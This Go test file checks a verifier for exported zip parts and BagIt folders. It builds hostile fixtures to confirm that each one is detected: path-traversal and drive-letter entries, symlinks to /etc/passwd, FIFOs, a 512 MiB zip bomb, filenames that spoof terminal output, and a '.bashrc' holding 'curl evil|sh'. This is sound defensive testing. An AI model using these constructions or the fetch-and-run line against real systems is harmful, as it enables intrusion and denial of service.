package export

import (
	"context"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"syscall"
	"testing"

	"github.com/periscope-sunset/periscope-sunset/internal/blob"
)

// downloadParts copies a user's parts into a fresh folder, as a browser
// would save them.
func downloadParts(t *testing.T, dstDir, uid string) string {
	dir := t.TempDir()
	parts, _ := filepath.Glob(filepath.Join(dstDir, uid, "*.zip"))
	for _, p := range parts {
		b, _ := os.ReadFile(p)
		os.WriteFile(filepath.Join(dir, filepath.Base(p)), b, 0o644)
	}
	return dir
}

// verifyProblems runs VerifyDownload on dir and returns its problems, one
// a line, checking that the error agrees with them.
func verifyProblems(t *testing.T, dir string) string {
	t.Helper()
	rs, err := VerifyDownload(dir)
	var s []string
	for _, r := range rs {
		s = append(s, r.Problems...)
	}
	if (err == nil) != (len(s) == 0) {
		t.Fatalf("error %v but problems %q", err, s)
	}
	return strings.Join(s, "\n")
}

// wantProblems fails unless every want is in got; no wants means intact.
func wantProblems(t *testing.T, got string, wants ...string) {
	t.Helper()
	if (len(wants) == 0) != (got == "") {
		t.Fatalf("problems %q, want %q", got, wants)
	}
	for _, w := range wants {
		if !strings.Contains(got, w) {
			t.Fatalf("problems %q, want %q in them", got, w)
		}
	}
}

func exportSample(t *testing.T) (string, blob.Store) {
	srcDir, dstDir := copySample(t), t.TempDir()
	dst := fileStore(t, dstDir)
	runExport(t, fileStore(t, srcDir), dst, Options{MaxPartSize: 30 << 10})
	return dstDir, dst
}

func TestVerifyLocal(t *testing.T) {
	dstDir, dst := exportSample(t)
	for _, tc := range []struct {
		name  string
		make  func(t *testing.T) string
		wants []string // none means intact
	}{
		{"all parts", func(t *testing.T) string { return downloadParts(t, dstDir, "alice") }, nil},
		{"a part missing", func(t *testing.T) string {
			dir := downloadParts(t, dstDir, "alice")
			os.Remove(filepath.Join(dir, partKey("alice", 2, partCount(t, dst, "alice"))[len("alice/"):]))
			return dir
		}, []string{"part 2 of"}},
		{"a flipped byte", func(t *testing.T) string {
			dir := downloadParts(t, dstDir, "frank")
			name := filepath.Join(dir, "periscope-frank.zip")
			b, _ := os.ReadFile(name)
			b[len(b)/3] ^= 1
			os.WriteFile(name, b, 0o644)
			return dir
		}, []string{"periscope-frank.zip"}},
		{"extracted bag", func(t *testing.T) string { return extractExport(t, dst, "zoe-aero") }, nil},
		{"extracted bag with an edited file", func(t *testing.T) string {
			bag := extractExport(t, dst, "zoe-aero")
			os.WriteFile(filepath.Join(bag, "data", "profile.json"), []byte("{}"), 0o644)
			return bag
		}, []string{"data/profile.json"}},
		{"extracted bag with an extra payload file", func(t *testing.T) string {
			bag := extractExport(t, dst, "carol")
			os.WriteFile(filepath.Join(bag, "data", "extra.txt"), []byte("x"), 0o644)
			return bag
		}, []string{"Payload-Oxum", "data/extra.txt: not listed in manifest-sha256.txt"}},
	} {
		t.Run(tc.name, func(t *testing.T) { wantProblems(t, verifyProblems(t, tc.make(t)), tc.wants...) })
	}
}

// needTool finds a program the tests need, or fails naming the script
// that installs it.
func needTool(t testing.TB, name string) string {
	t.Helper()
	p, err := exec.LookPath(name)
	if err != nil {
		t.Fatalf("%s is needed for the verify FOLDER tests (scripts/install-deps installs it): %v", name, err)
	}
	return p
}

// pyRewrite rewrites the zip at path with testdata/hostilezip.py (Python's
// zipfile, not our writer) applying ops.
func pyRewrite(t testing.TB, path string, ops ...[]any) {
	t.Helper()
	raw, _ := json.Marshal(append([][]any{}, ops...))
	out := path + ".new"
	cmd := exec.Command(needTool(t, "python3"), filepath.Join("testdata", "hostilezip.py"), path, out, string(raw))
	if b, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("hostilezip.py %s: %v\n%s", raw, err, b)
	}
	if err := os.Rename(out, path); err != nil {
		t.Fatal(err)
	}
}

func TestVerifyLocalHostilePythonZip(t *testing.T) {
	dstDir, dst := exportSample(t)
	single := func(ops ...[]any) func(t *testing.T) string {
		return func(t *testing.T) string {
			dir := downloadParts(t, dstDir, "frank")
			pyRewrite(t, filepath.Join(dir, "periscope-frank.zip"), ops...)
			return dir
		}
	}
	op := func(a ...any) []any { return a }
	for _, tc := range []struct {
		name  string
		make  func(t *testing.T) string
		wants []string
	}{
		{"rewritten, nothing added", single(), nil},
		{"dot-dot entry", single(op("add", "../../evil.sh", "#!/bin/sh\n")), []string{`"../../evil.sh": unsafe path`}},
		{"absolute entry", single(op("add", "/tmp/x", "x")), []string{`"/tmp/x": unsafe path`}},
		{"dot-dot inside data", single(op("add", "data/../../x", "x")), []string{`"data/../../x": unsafe path`}},
		{"backslash entry", single(op("add", `data\..\..\evil.bat`, "x")), []string{`backslash`}},
		{"drive letter", single(op("add", "C:/Windows/evil.exe", "x")), []string{`drive letter`}},
		{"drive-relative", single(op("add", "c:evil.exe", "x")), []string{`drive letter`}},
		{"added viewer page", single(op("add", "index2.html", "<script>")), []string{"index2.html: not listed in tagmanifest-sha256.txt"}},
		{"added dotfile", single(op("add", ".bashrc", "curl evil|sh")), []string{".bashrc: not listed in tagmanifest-sha256.txt"}},
		{"added nested file", single(op("add", "x/y/.profile", "x")), []string{"x/y/.profile: not listed"}},
		{"added payload", single(op("add", "data/evil.html", "x")), []string{"data/evil.html: not listed in manifest-sha256.txt"}},
		{"symlink entry", single(op("symlink", "data/passwd", "/etc/passwd")), []string{`"data/passwd": is a symlink entry`}},
		{"payload replaced by a symlink", single(op("symlink", "data/profile.json", "/dev/zero")),
			[]string{`"data/profile.json": is a symlink entry`}},
		{"tag file replaced by a symlink", single(op("symlink", "bagit.txt", "/dev/zero")), []string{`"bagit.txt": is a symlink entry`}},
		{"fifo entry", single(op("fifo", "data/pipe")), []string{`"data/pipe": is a named pipe (FIFO) entry`}},
		{"duplicate in one part", single(op("dup", "data/profile.json", "{}")), []string{`"data/profile.json": appears more than once`}},
		{"duplicate tag file", single(op("dup", "manifest-sha256.txt", "")), []string{`"manifest-sha256.txt": appears more than once`}},
		{"duplicate across parts", func(t *testing.T) string {
			dir := downloadParts(t, dstDir, "alice")
			pyRewrite(t, filepath.Join(dir, partKey("alice", 1, partCount(t, dst, "alice"))[len("alice/"):]),
				op("dup", "bagit.txt", bagitDeclaration))
			return dir
		}, []string{`"bagit.txt": appears more than once`}},
		{"manifest inflates past its declared size", single(op("lie", "manifest-sha256.txt", 100)), []string{`"manifest-sha256.txt"`}},
		{"payload inflates past its declared size", single(op("lie", "data/profile.json", 10)), []string{`"data/profile.json"`}},
	} {
		t.Run(tc.name, func(t *testing.T) { wantProblems(t, verifyProblems(t, tc.make(t)), tc.wants...) })
	}
}

// infoZip runs Info-ZIP's zip in dir.
func infoZip(t *testing.T, dir string, args ...string) {
	t.Helper()
	cmd := exec.Command(needTool(t, "zip"), args...)
	cmd.Dir = dir
	if b, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("zip %q: %v\n%s", args, err, b)
	}
}

func TestVerifyLocalHostileInfoZip(t *testing.T) {
	dstDir, _ := exportSample(t)
	// with builds the files in a work folder and lets Info-ZIP add them
	// to frank's part (-D: no directory entries, -y: store links as links).
	with := func(setup func(work string), names ...string) func(t *testing.T) string {
		return func(t *testing.T) string {
			dir, work := downloadParts(t, dstDir, "frank"), t.TempDir()
			os.MkdirAll(filepath.Join(work, "data"), 0o755)
			setup(work)
			infoZip(t, work, append([]string{"-q", "-D", "-y", filepath.Join(dir, "periscope-frank.zip")}, names...)...)
			return dir
		}
	}
	write := func(name, body string) func(string) {
		return func(work string) { os.WriteFile(filepath.Join(work, name), []byte(body), 0o644) }
	}
	link := func(name, target string) func(string) {
		return func(work string) { os.Symlink(target, filepath.Join(work, name)) }
	}
	for _, tc := range []struct {
		name  string
		make  func(t *testing.T) string
		wants []string
	}{
		{"added dotfile", with(write(".bashrc", "evil"), ".bashrc"), []string{".bashrc: not listed in tagmanifest-sha256.txt"}},
		{"added page", with(write("index2.html", "<script>"), "index2.html"), []string{"index2.html: not listed"}},
		{"added payload", with(write("data/evil.sh", "x"), "data/evil.sh"), []string{"data/evil.sh: not listed in manifest-sha256.txt"}},
		{"symlink to /dev/zero", with(link("data/zero", "/dev/zero"), "data/zero"), []string{`"data/zero": is a symlink entry`}},
		{"payload replaced by a symlink", with(link("data/profile.json", "/dev/zero"), "data/profile.json"),
			[]string{`"data/profile.json": is a symlink entry`}},
		{"symlink out of the folder", with(link("data/up", "../../../../etc"), "data/up"), []string{`"data/up": is a symlink entry`}},
	} {
		t.Run(tc.name, func(t *testing.T) { wantProblems(t, verifyProblems(t, tc.make(t)), tc.wants...) })
	}
}

func TestVerifyLocalHostileFolder(t *testing.T) {
	_, dst := exportSample(t)
	bag := func(change func(t *testing.T, bag string)) func(t *testing.T) string {
		return func(t *testing.T) string {
			dir := extractExport(t, dst, "frank")
			change(t, dir)
			return dir
		}
	}
	write := func(name string) func(*testing.T, string) {
		return func(t *testing.T, dir string) {
			p := filepath.Join(dir, filepath.FromSlash(name))
			os.MkdirAll(filepath.Dir(p), 0o755)
			if err := os.WriteFile(p, []byte("added"), 0o644); err != nil {
				t.Fatal(err)
			}
		}
	}
	replace := func(name string, with func(p string) error) func(*testing.T, string) {
		return func(t *testing.T, dir string) {
			p := filepath.Join(dir, filepath.FromSlash(name))
			os.Remove(p)
			if err := with(p); err != nil {
				t.Fatal(err)
			}
		}
	}
	symlinkTo := func(target string) func(string) error { return func(p string) error { return os.Symlink(target, p) } }
	fifo := func(p string) error { return syscall.Mkfifo(p, 0o644) }
	socket := func(p string) error {
		ln, err := net.Listen("unix", p)
		if err == nil {
			t.Cleanup(func() { ln.Close() })
		}
		return err
	}
	for _, tc := range []struct {
		name  string
		make  func(t *testing.T) string
		wants []string
	}{
		{"added page", bag(write("index2.html")), []string{"index2.html: not listed in tagmanifest-sha256.txt"}},
		{"added dotfile", bag(write(".bashrc")), []string{".bashrc: not listed"}},
		{"added deep file", bag(write("x/y/z/evil.sh")), []string{"x/y/z/evil.sh: not listed"}},
		{"added payload deep down", bag(write("data/a/b/.hidden")), []string{"data/a/b/.hidden: not listed in manifest-sha256.txt"}},
		{"symlink to /dev/zero", bag(replace("data/zero", symlinkTo("/dev/zero"))), []string{`"data/zero": is a symlink`}},
		{"payload is a symlink to /dev/zero", bag(replace("data/profile.json", symlinkTo("/dev/zero"))),
			[]string{`"data/profile.json": is a symlink`, "manifest-sha256.txt lists data/profile.json"}},
		{"tag file is a symlink to /dev/zero", bag(replace("manifest-sha256.txt", symlinkTo("/dev/zero"))),
			[]string{`"manifest-sha256.txt": is a symlink`}},
		{"bagit.txt is a symlink", bag(replace("bagit.txt", symlinkTo("/etc/passwd"))), []string{`"bagit.txt": is a symlink`}},
		{"symlink to outside", bag(replace("data/up", symlinkTo("../../../../../etc/passwd"))), []string{`"data/up": is a symlink`}},
		{"symlinked folder", bag(replace("data/root", symlinkTo("/"))), []string{`"data/root": is a symlink`}},
		{"payload is a FIFO", bag(replace("data/profile.json", fifo)), []string{`"data/profile.json": is a named pipe (FIFO)`}},
		{"tag file is a FIFO", bag(replace("bag-info.txt", fifo)), []string{`"bag-info.txt": is a named pipe (FIFO)`}},
		{"added FIFO", bag(replace("data/pipe", fifo)), []string{`"data/pipe": is a named pipe (FIFO)`}},
		{"added socket", bag(replace("data/sock", socket)), []string{`"data/sock": is a socket`}},
		{"manifest declares 512 MiB", bag(replace("manifest-sha256.txt", func(p string) error {
			f, err := os.Create(p)
			if err == nil {
				err = f.Truncate(512 << 20) // sparse: no disk, but 512 MiB to read
				f.Close()
			}
			return err
		})), []string{`"manifest-sha256.txt": declares 536870912 bytes, more than a tag file of a bag this size can hold`}},
	} {
		t.Run(tc.name, func(t *testing.T) { wantProblems(t, verifyProblems(t, tc.make(t)), tc.wants...) })
	}
}

// TestVerifyLocalZipBombMemory checks memory, not time: a ~500 KB part
// whose manifest-sha256.txt inflates to 512 MiB must not be held, nor
// inflated past what it declares when it lies about its size.
func TestVerifyLocalZipBombMemory(t *testing.T) {
	dstDir, _ := exportSample(t)
	bomb := filepath.Join(downloadParts(t, dstDir, "frank"), "periscope-frank.zip")
	pyRewrite(t, bomb, []any{"bomb", manifestTxt, 512})
	for _, tc := range []struct {
		name string
		lie  []any
		want string
	}{
		{"declared", nil, "declares 536870912 bytes, more than a tag file"},
		{"declares 100 bytes", []any{"lie", manifestTxt, 100}, `"manifest-sha256.txt"`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			part := filepath.Join(dir, "periscope-frank.zip")
			b, err := os.ReadFile(bomb)
			if err != nil || len(b) > 2<<20 {
				t.Fatalf("the bomb part should be small: %d bytes, %v", len(b), err)
			}
			os.WriteFile(part, b, 0o644)
			if tc.lie != nil {
				pyRewrite(t, part, tc.lie)
			}
			var before, after runtime.MemStats
			runtime.GC()
			runtime.ReadMemStats(&before)
			got := verifyProblems(t, dir)
			runtime.ReadMemStats(&after)
			wantProblems(t, got, tc.want)
			const limit = 32 << 20
			if alloc := after.TotalAlloc - before.TotalAlloc; alloc > limit {
				t.Errorf("verify allocated %d MiB, want under %d MiB", alloc>>20, limit>>20)
			}
			if after.HeapInuse > before.HeapInuse+limit {
				t.Errorf("heap in use grew from %d to %d MiB", before.HeapInuse>>20, after.HeapInuse>>20)
			}
		})
	}
}

func partCount(t *testing.T, dst blob.Store, uid string) int {
	m, err := ReadManifest(context.Background(), dst, uid)
	if err != nil {
		t.Fatal(err)
	}
	return len(m.Parts)
}

// TestVerifyLocalNamesShowAsThemselves: a file name that would reverse
// or rewrite the problem line on a terminal is printed quoted.
func TestVerifyLocalNamesShowAsThemselves(t *testing.T) {
	_, dst := exportSample(t)
	dir := extractExport(t, dst, "frank")
	for _, name := range []string{"clip\u202egpj.exe", "x\x1b[2Jy", "new\nline"} {
		os.WriteFile(filepath.Join(dir, "data", name), []byte("x"), 0o644)
	}
	got := verifyProblems(t, dir)
	wantProblems(t, got, `"data/clip\u202egpj.exe": not listed`, `"data/x\x1b[2Jy": not listed`, `"data/new\nline": not listed`)
	if strings.ContainsAny(got, "\u202e\x1b") {
		t.Fatalf("problems hold raw control or format characters: %q", got)
	}
}

// writeSums writes SHA256SUMS as the portal serves it for uid's parts.
func writeSums(t *testing.T, dst blob.Store, dir, uid string) {
	var b strings.Builder
	for _, p := range manifestOf(t, dst, uid).Parts {
		fmt.Fprintf(&b, "%s  %s\n", p.SHA256, filepath.Base(p.Key))
	}
	if err := os.WriteFile(filepath.Join(dir, PartSumsName), []byte(b.String()), 0o644); err != nil {
		t.Fatal(err)
	}
}

func manifestOf(t *testing.T, dst blob.Store, uid string) *Manifest {
	m, err := ReadManifest(context.Background(), dst, uid)
	if err != nil {
		t.Fatal(err)
	}
	return m
}

// TestVerifyLocalPartSums: with the portal's SHA256SUMS in the folder,
// a part rebuilt to be self-consistent (which the bag's own manifests
// cannot tell) is caught, and so are parts that do not fit the set.
func TestVerifyLocalPartSums(t *testing.T) {
	dstDir, dst := exportSample(t)
	n := partCount(t, dst, "alice")
	alicePart := func(i int) string { return filepath.Base(partKey("alice", i, n)) }
	for _, tc := range []struct {
		name  string
		make  func(t *testing.T) string
		wants []string
	}{
		{"parts and SHA256SUMS", func(t *testing.T) string {
			dir := downloadParts(t, dstDir, "alice")
			writeSums(t, dst, dir, "alice")
			return dir
		}, nil},
		{"rewritten part, self-consistent, no SHA256SUMS", func(t *testing.T) string {
			dir := downloadParts(t, dstDir, "frank")
			pyRewrite(t, filepath.Join(dir, "periscope-frank.zip"))
			return dir
		}, nil},
		{"rewritten part against SHA256SUMS", func(t *testing.T) string {
			dir := downloadParts(t, dstDir, "frank")
			writeSums(t, dst, dir, "frank")
			// Python's zipfile rewrites our header-complete zips byte for
			// byte; a comment makes the rewrite differ, as any re-zip would.
			part := filepath.Join(dir, "periscope-frank.zip")
			pyRewrite(t, part)
			setZipComment(t, part, "re-zipped")
			return dir
		}, []string{"periscope-frank.zip: sha256 ", "SHA256SUMS says"}},
		{"a part SHA256SUMS does not list", func(t *testing.T) string {
			dir := downloadParts(t, dstDir, "frank")
			writeSums(t, dst, dir, "frank")
			b, _ := os.ReadFile(filepath.Join(dir, "periscope-frank.zip"))
			os.WriteFile(filepath.Join(dir, "periscope-frank-part-002-of-002.zip"), b, 0o644)
			return dir
		}, []string{"periscope-frank-part-002-of-002.zip: not listed in SHA256SUMS"}},
		{"a listed part missing", func(t *testing.T) string {
			dir := downloadParts(t, dstDir, "alice")
			writeSums(t, dst, dir, "alice")
			os.Remove(filepath.Join(dir, alicePart(n)))
			os.Rename(filepath.Join(dir, alicePart(n-1)), filepath.Join(dir, "periscope-alice-part-002-of-002.zip"))
			return dir
		}, []string{alicePart(n) + ": listed in SHA256SUMS, missing"}},
		{"two files for one part", func(t *testing.T) string {
			dir := downloadParts(t, dstDir, "frank")
			b, _ := os.ReadFile(filepath.Join(dir, "periscope-frank.zip"))
			os.WriteFile(filepath.Join(dir, "periscope-frank-part-001-of-001.zip"), b, 0o644)
			return dir
		}, []string{"are both part 1"}},
		{"part zero", func(t *testing.T) string {
			dir := downloadParts(t, dstDir, "frank")
			os.WriteFile(filepath.Join(dir, "periscope-frank-part-000-of-001.zip"), []byte("x"), 0o644)
			return dir
		}, []string{"periscope-frank-part-000-of-001.zip: part 0 of 1 is not a part number"}},
		{"part past the count", func(t *testing.T) string {
			dir := downloadParts(t, dstDir, "frank")
			os.WriteFile(filepath.Join(dir, "periscope-frank-part-005-of-001.zip"), []byte("x"), 0o644)
			return dir
		}, []string{"part 5 of 1 is not a part number"}},
		{"a part is a symlink", func(t *testing.T) string {
			dir := t.TempDir()
			os.Symlink("/dev/zero", filepath.Join(dir, "periscope-frank.zip"))
			return dir
		}, []string{"periscope-frank.zip: is a symlink, not a regular file"}},
		{"a part is a FIFO", func(t *testing.T) string {
			dir := t.TempDir()
			syscall.Mkfifo(filepath.Join(dir, "periscope-frank.zip"), 0o644)
			return dir
		}, []string{"periscope-frank.zip: is a named pipe (FIFO)"}},
	} {
		t.Run(tc.name, func(t *testing.T) { wantProblems(t, verifyProblems(t, tc.make(t)), tc.wants...) })
	}
}

// TestVerifyLocalFolderGivenByLink: the folder the user names may itself
// be a link (only what is inside is never followed).
func TestVerifyLocalFolderGivenByLink(t *testing.T) {
	_, dst := exportSample(t)
	link := filepath.Join(t.TempDir(), "bag")
	if err := os.Symlink(extractExport(t, dst, "frank"), link); err != nil {
		t.Fatal(err)
	}
	wantProblems(t, verifyProblems(t, link))
}

// setZipComment gives a zip without a comment one, changing its bytes but
// not its entries: the end of central directory record is its last 22
// bytes, with the comment length at offset 20.
func setZipComment(t *testing.T, path, comment string) {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil || len(b) < 22 || string(b[len(b)-22:len(b)-18]) != "PK\x05\x06" {
		t.Fatalf("%s: no end record without a comment (%v)", path, err)
	}
	binary.LittleEndian.PutUint16(b[len(b)-2:], uint16(len(comment)))
	if err := os.WriteFile(path, append(b, comment...), 0o644); err != nil {
		t.Fatal(err)
	}
}
